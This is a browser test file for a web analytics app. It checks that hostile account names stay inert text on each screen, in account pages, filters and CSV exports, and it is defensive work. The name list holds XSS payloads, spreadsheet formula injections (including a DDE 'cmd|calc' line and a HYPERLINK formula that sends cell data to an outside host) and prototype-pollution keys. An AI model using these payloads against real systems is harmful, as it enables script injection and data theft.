import { readFile } from 'node:fs/promises'
import papaparse from 'papaparse'
import type { Page } from 'playwright'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { madeUpShop } from './madeUpShop'
import { openCompany, settled, visit } from './openCompany'

/** Names that try to become code, a formula, a key of an object, another direction of writing, or a burst of the layout. */
const NAMES = [
  '<script>window.attacked = true</script>',
  '<img src="nowhere.png" onerror="window.attacked = true">',
  '"><svg onload="window.attacked = true">',
  "'-(window.attacked=true)-'",
  '{b|<b>rich</b>} {c} %s ${1+1} {{7*7}}',
  'javascript:window.attacked=true',
  '=HYPERLINK("https://elsewhere.example/?"&A1)',
  '+1+cmd|calc',
  '-2+3',
  '@SUM(1+1)',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
  '\u202Egnissecorp\u202C \u2066left\u2069 \u200F',
  'nothing\0after',
  'two\nlines\tand a tab',
  'W'.repeat(10_000),
  'many words '.repeat(900).trim(),
  'null',
] as const

/** Screens, and how many of the names stand on them at least. */
const SCREENS = [
  { screen: '/', least: 3 },
  { screen: '/segments', least: 0 },
  { screen: '/accounts', least: 5 },
  { screen: '/churn', least: 0 },
  { screen: '/cohorts?split=segment', least: 5 },
  { screen: '/cohorts?split=rep&show=cumulative&basis=revenue', least: 5 },
  { screen: '/data', least: 1 },
] as const

let page: Page
let noise: string[]
const dialogs: string[] = []
const asked: string[] = []

beforeAll(async () => {
  const accounts = NAMES.map((name) => ({ id: name, name, word: name }))
  ;({ page, noise } = await openCompany(madeUpShop(NAMES[0], accounts), '/'))
  page.on('dialog', (dialog) => dialogs.push(dialog.message()))
  page.on('request', (request) => asked.push(request.url()))
}, 120_000)

afterAll(async () => {
  await page.context().close()
})

test.each(SCREENS)(
  'hostile names stay text on $screen, in its tables, workings and hints',
  async ({ screen, least }) => {
    await visit(page, screen)
    await expectHarmless()
    await openEverything()
    await expectHarmless()
    expect((await shownNames()).length).toBeGreaterThanOrEqual(least)
  },
)

test('every account with a hostile name has a page of its own', async () => {
  for (const name of NAMES) {
    await visit(page, `/accounts/${encodeURIComponent(`${NAMES[0]}:${name}`)}`)
    expect(await page.getByRole('dialog').textContent()).toContain(name)
    await expectHarmless()
  }
})

test('the exported list of accounts holds every name, and nothing that a spreadsheet would run', async () => {
  await visit(page, '/accounts')
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: /^Export/ }).click(),
  ])
  const { data } = papaparse.parse<string[]>(await readFile(await download.path(), 'utf8'))
  const cells = data.flat()
  expect(NAMES.filter((name) => !cells.includes(name) && !cells.includes(`'${name}`))).toEqual([])
  expect(cells.filter((cell) => /^[=+@\t\r\0-]/.test(cell) && Number.isNaN(Number(cell)))).toEqual([])
  await expectHarmless()
})

test('the menu of filters lists hostile values as text, and so does the chip of a chosen one', async () => {
  await visit(page, '/segments')
  await page.keyboard.press('f')
  const menu = page.getByRole('dialog', { name: 'Filter' })
  await menu.getByRole('button', { name: /^Country/ }).click()
  await menu.getByRole('checkbox', { name: NAMES[0], exact: true }).check()
  await page.keyboard.press('Escape')
  await settled(page)
  expect(await page.getByRole('region', { name: 'Scope' }).textContent()).toContain(NAMES[0])
  await expectHarmless()
})

test.each(['/', '/segments', '/accounts', '/churn', '/cohorts', '/audiences', '/scenarios', '/data'])(
  'an address that someone made up opens %s all the same',
  async (screen) => {
    const madeUp =
      'country=%3Cscript%3E&__proto__=x&constructor=y&asof=%3Cimg%3E&period=%00&def=fixed-1e9&show=__proto__&%=%'
    await visit(page, `${screen}?${madeUp}`)
    await expectHarmless()
  },
)

/** Opens all table twins and workings, and points at every drawing. */
async function openEverything(): Promise<void> {
  for (const drawing of await page.locator('main canvas, main svg[role="img"]').all()) {
    await drawing.hover({ force: true })
  }
  for (const tool of await page.locator('main [data-tool="working"]').all()) {
    await tool.click()
    const opened = page.getByRole('dialog', { name: /^Show the working/ })
    await opened.waitFor()
    await page.keyboard.press('Escape')
    await opened.waitFor({ state: 'hidden' })
  }
  for (const tool of await page.locator('main [data-tool="table"]').all()) await tool.click()
}

/** The hostile names that stand on the screen as text. */
async function shownNames(): Promise<string[]> {
  const text = (await page.locator('main').textContent()) ?? ''
  return NAMES.filter((name) => text.includes(name))
}

async function expectHarmless(): Promise<void> {
  const { strangers, attacked, polluted, width, room } = await page.evaluate(() => ({
    strangers: Array.from(
      document.querySelectorAll('script:not([src^="/assets/"]), img, b, iframe, object, [onload], [onerror]'),
      (element) => element.outerHTML.slice(0, 200),
    ),
    attacked: 'attacked' in window,
    polluted: Object.keys(Object.prototype),
    width: document.documentElement.scrollWidth,
    room: document.documentElement.clientWidth,
  }))
  expect({ strangers, attacked, polluted }).toEqual({ strangers: [], attacked: false, polluted: [] })
  expect(width, 'the page is not wider than the window').toBeLessThanOrEqual(room)
  expect([...dialogs, ...noise]).toEqual([])
  const { origin } = new URL(page.url())
  expect(asked.filter((url) => new URL(url).origin !== origin)).toEqual([])
}
